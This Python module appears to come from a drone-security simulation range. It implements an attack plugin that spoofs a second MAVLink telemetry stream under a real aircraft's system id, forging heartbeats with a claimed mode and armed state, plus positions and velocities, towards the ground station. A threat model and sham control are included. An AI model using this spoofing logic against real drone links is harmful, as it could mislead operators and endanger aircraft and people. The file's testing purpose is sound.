"""A second stream of reports with the system id of an aircraft: heartbeats and positions of the attacker's own."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass, field
from math import atan2, degrees, hypot
from typing import Annotated, Any, Final

from pydantic import Field

from skyrange.attack.contract import Attack, AttackContext, AttackPlugin, Controls, Place, ThreatModel
from skyrange.attack.identity.silence_station import ROLES
from skyrange.attack.mavlink_names import ModeName
from skyrange.attack.on_path import InjectingTap, Names, Repetition, side_of
from skyrange.attack.telemetry.alteration import put, read_fields, telemetry_links, write_fields
from skyrange.codec.mavlink import dialect as mav
from skyrange.codec.mavlink import message_id
from skyrange.codec.mavlink.flight_modes import COPTER_MODE_NUMBERS
from skyrange.contracts.frames.frame import Frame
from skyrange.contracts.links import Schedule, TapPlacement
from skyrange.contracts.params import Enu, Number, Params
from skyrange.contracts.verdicts import Direction
from skyrange.core.geodesy import Origin
from skyrange.core.time import NS_PER_S, Time

_HEARTBEAT: Final = int(mav.MAVLINK_MSG_ID_HEARTBEAT)
_POSITION: Final = int(mav.MAVLINK_MSG_ID_GLOBAL_POSITION_INT)
_ARMED: Final = int(mav.MAV_MODE_FLAG_SAFETY_ARMED)
_AUTOPILOT: Final = int(mav.MAV_COMP_ID_AUTOPILOT1)


class SecondVehicle(Params):
    """What the second stream claims."""

    links: Annotated[Names, Field(min_length=1)] = Field(
        description="Links gcs, log or autopilot by name or pattern, such as ['gcs:blue/b1']: the aircraft whose "
        "system id is claimed, towards its ground station."
    )
    at: Enu = Field(
        description="Claimed position at the start of the attack, [east_m, north_m, up_m] in metres from the origin or "
        "the attack's anchor."
    )
    velocity_mps: Enu = Field(default=(0.0, 0.0, 0.0), description="Claimed velocity, [east, north, up] in m/s.")
    rate_hz: Number = Field(default=4.0, ge=1, le=50, description="Positions per second; one heartbeat per second.")
    mode: ModeName | None = Field(
        default=None, description="Claimed mode, such as 'LAND'; default: that of the aircraft."
    )
    armed: bool | None = Field(default=None, description="Claimed armed state; default: that of the aircraft.")


@dataclass(slots=True)
class SecondStream:
    """Heartbeats and positions made from the last ones of the aircraft; none before it was heard.

    The sham repeats the aircraft's own last heartbeat and position, with as many bytes.
    """

    claim: tuple[Place, Place, int | None, bool | None]
    """Position and velocity at the start, mode and armed state."""
    system: int
    origin: Origin
    schedule: Schedule
    repetition: Repetition
    sham: bool
    heard: dict[int, bytes] = field(default_factory=dict)
    """The last frame of the aircraft, by message id."""
    beat_ns: Time = 0
    """When the next heartbeat is due."""
    sequence: int = 0

    @property
    def due(self) -> Time | None:
        """When the next frames are due."""
        return self.repetition.due

    def see(self, now: Time, frame: Frame) -> None:
        """Keep the last heartbeat and position."""
        payload = frame.payload
        number = message_id(payload)
        if frame.direction != "rev" or number not in (_HEARTBEAT, _POSITION):
            return
        if read_fields(payload, number) is not None and payload[5] == self.system and payload[6] == _AUTOPILOT:
            self.heard[number] = payload

    def make(self, now: Time) -> Sequence[tuple[Direction, bytes]]:
        """A position, and every second a heartbeat."""
        if not self.repetition.take(now) or len(self.heard) < 2:
            return []
        frames: list[tuple[Direction, bytes]] = []
        if now >= self.beat_ns:
            self.beat_ns = now + NS_PER_S
            frames.append(("rev", self._frame(now, _HEARTBEAT)))
        frames.append(("rev", self._frame(now, _POSITION)))
        return frames

    def _frame(self, now: Time, number: int) -> bytes:
        payload = self.heard[number]
        fields = read_fields(payload, number)
        if not self.sham:
            if number == _HEARTBEAT:
                self._claim_state(fields)
            else:
                self._claim_position(now, fields)
        self.sequence = (self.sequence + 1) & 0xFF
        header = payload[:4] + bytes([self.sequence]) + payload[5:]
        return write_fields(header, number, fields, fields.dtype.itemsize)

    def _claim_state(self, fields: Any) -> None:
        _, _, mode, armed = self.claim
        if mode is not None:
            put(fields, "custom_mode", mode)
        if armed is not None:
            base = int(fields["base_mode"])
            put(fields, "base_mode", base | _ARMED if armed else base & ~_ARMED)

    def _claim_position(self, now: Time, fields: Any) -> None:
        at, (east, north, up), _, _ = self.claim
        seconds = (now - self.schedule.start_ns) / NS_PER_S
        lat_deg, lon_deg = self.origin.geodetic_of(at[0] + east * seconds, at[1] + north * seconds)
        above_home_m = (float(fields["relative_alt"]) - float(fields["alt"])) * 1e-3
        msl_m = self.origin.alt_msl_m + at[2] + up * seconds
        put(fields, "lat", lat_deg * 1e7)
        put(fields, "lon", lon_deg * 1e7)
        put(fields, "alt", msl_m * 1e3)
        put(fields, "relative_alt", (msl_m + above_home_m) * 1e3)
        put(fields, "vx", north * 100)
        put(fields, "vy", east * 100)
        put(fields, "vz", -up * 100)
        if hypot(east, north) > 0:
            put(fields, "hdg", degrees(atan2(east, north)) % 360.0 * 100)


@dataclass(frozen=True, slots=True)
class _MakeTap:
    params: SecondVehicle
    context: AttackContext

    def __call__(self, link: str) -> InjectingTap:
        params, context = self.params, self.context
        mode = None if params.mode is None else COPTER_MODE_NUMBERS[params.mode]
        stream = SecondStream(
            (params.at, params.velocity_mps, mode, params.armed),
            context.vehicles[link.partition(":")[2]].system_id,
            context.origin,
            context.schedule,
            Repetition(context.schedule, round(NS_PER_S / params.rate_hz)),
            context.sham,
        )
        return InjectingTap(link, stream)


def make(params: SecondVehicle, context: AttackContext) -> Attack:
    """The attack. Raises `InputError` for links that the scenario does not have, or of another kind."""
    maker = _MakeTap(params, context)
    links = telemetry_links(params.links, context, ROLES)
    taps = [TapPlacement(name, side_of(name), maker) for name in links]
    return Attack(taps=taps, shown={"second aircraft": params.at})


SECOND_VEHICLE = AttackPlugin(
    SecondVehicle,
    make,
    "Sends heartbeats and positions with the system id of an aircraft, beside its own.",
    technique="T0849",
    surface=ROLES,
    persists="acts",
    effect="the ground station gets two conflicting streams of one aircraft, and acts on both",
    threat=ThreatModel(
        knowledge="the system id of the aircraft and its last reports, which it hears",
        position="on the network between aircraft and ground station; it need not hold up frames",
        equipment="a computer that sends MAVLink",
        budget="a frame of 40 bytes per position, 21 bytes per heartbeat",
    ),
    controls=Controls(
        load="the sham: the same frames, repeating the aircraft's own last reports",
        content="none, because the sham has the true content",
        placement="the same stream on the link of another aircraft",
    ),
)
